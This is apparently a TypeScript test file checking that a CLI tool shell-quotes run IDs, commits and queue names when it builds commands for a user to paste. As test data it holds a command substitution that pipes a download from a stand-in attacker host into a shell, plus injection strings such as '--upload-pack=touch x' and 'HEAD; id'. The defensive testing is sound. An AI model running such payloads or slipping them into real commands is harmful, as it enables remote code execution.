import { expect, test } from "vitest";
import { againCommands } from "../../../src/reporting/again.ts";
import { nobodyWords, type QueueReport } from "../../../src/reporting/queue-report.ts";
import { againFromRecord } from "../../../src/submit/reproduce.ts";
import { queuedRecord } from "../../support/stores/run-record.ts";

const hostile = "x$(curl evil.example|sh)";

test("what is to be pasted to run a record again has its names as words of a shell", () => {
  const record = queuedRecord("x", { run_id: hostile });
  expect(againFromRecord(record, ["--store", "git+https://e.example/a b"]).join("\n")).toBe(
    `launch run -c "$(launch show '${hostile}' --store 'git+https://e.example/a b' --spec)"`,
  );
});

test.each(["--upload-pack=touch x", "-f", "$(id)", "HEAD; id"])(
  "a commit that is none is nothing to check out: %s",
  (commit) => {
    const launch = "launch run x";
    expect(againCommands({ runId: "a", commit, patched: false, launch })).toEqual([launch]);
    expect(againCommands({ runId: "a", commit, patched: true, launch })).toEqual([]);
  },
);

test("the patch of a run is shown by a name that is one word", () => {
  const again = againCommands({ runId: hostile, commit: "3f9c2e1a", patched: true, launch: "launch run x" });
  expect(again).toEqual([
    "git checkout 3f9c2e1a",
    `launch show '${hostile}' --patch | git apply --index`,
    "launch run x",
  ]);
});

test("a queue that nobody serves is named as one word", () => {
  const report: QueueReport = {
    ...{ queue: "a;id", resource: undefined, order: "fifo", paused: false, deleted: false },
    ...{ agents: [], running: [], waiting: [], unreadable: 0, unreadableRuns: [] },
    ...{ duration: undefined, lastRunMs: undefined },
  };
  expect(nobodyWords(report, [])).toContain("launch agent -q 'a;id'");
});
